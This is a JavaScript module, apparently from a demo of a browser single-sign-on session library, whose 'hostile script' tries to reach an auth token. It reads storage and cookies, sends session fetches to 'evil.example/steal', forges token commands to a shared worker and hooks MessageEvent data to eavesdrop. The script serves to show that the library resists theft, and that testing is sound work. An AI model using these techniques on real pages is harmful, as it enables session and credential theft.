// What the demo's "Run a hostile script" loads into the page: a script that
// tries the ways of reaching a token that the tests try
// (tests/support/session-app/hostile.js has them all) and reports, for each,
// what it got. Nothing it gets is a token: the page holds none.
export async function attack(session) {
  const out = [];
  const run = async (name, f) => {
    try {
      const v = await f();
      out.push({ name, outcome: `got ${typeof v === 'string' ? v : JSON.stringify(v)}`.slice(0, 160) });
    } catch (e) {
      out.push({ name, outcome: `refused: ${e.code ?? e.name}` });
    }
  };
  const heard = [];
  const dataGetter = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data').get;
  Object.defineProperty(MessageEvent.prototype, 'data', { configurable: true, get() { const d = dataGetter.call(this); heard.push(d); return d; } });
  await run('web storage and cookies', () => ({ local: localStorage.length, session: sessionStorage.length, cookie: document.cookie }));
  await run('the session object', () => `${JSON.stringify(session)} ${String(session)}`);
  await run('session.info()', async () => Object.keys(await session.info()).join(', '));
  await run('session.fetch to another origin', () => session.fetch('https://evil.example/steal'));
  await run('session.fetch with its own Authorization', () => session.fetch('https://evil.example/', { headers: { authorization: 'x' } }));
  const worker = new SharedWorker('/pkg/session/worker.js', { type: 'module', name: 'edge-sso' });
  const ask = (msg) => new Promise((resolve) => {
    // The answer to this message (the worker also posts events, first of them `started`).
    worker.port.onmessage = (e) => { if (e.data?.id === msg.id) resolve(e.data); };
    worker.port.postMessage(msg);
    setTimeout(() => resolve({ ok: false, error: { code: 'no answer' } }), 2000);
  });
  for (const op of ['token', 'authorizationHeader', 'refreshRequest']) {
    await run(`a forged "${op}" command to the worker`, async () => {
      const r = await ask({ edgeSso: 1, id: 1, op, args: {} });
      if (!r.ok) throw Object.assign(new Error(), { code: r.error.code });
      return r.value;
    });
  }
  await run('a forged fetch to another origin, to the worker', async () => {
    const r = await ask({ edgeSso: 1, id: 2, op: 'fetch', args: { url: 'https://evil.example/', method: 'GET', headers: [], body: null } });
    if (!r.ok) throw Object.assign(new Error(), { code: r.error.code });
    return r.value;
  });
  Object.defineProperty(MessageEvent.prototype, 'data', { configurable: true, get: dataGetter });
  await run('every message the page received meanwhile', () => `${heard.length} messages, members: ${[...new Set(heard.flatMap((d) => (d && typeof d === 'object' ? Object.keys(d) : [])))].join(', ')}`);
  return out;
}
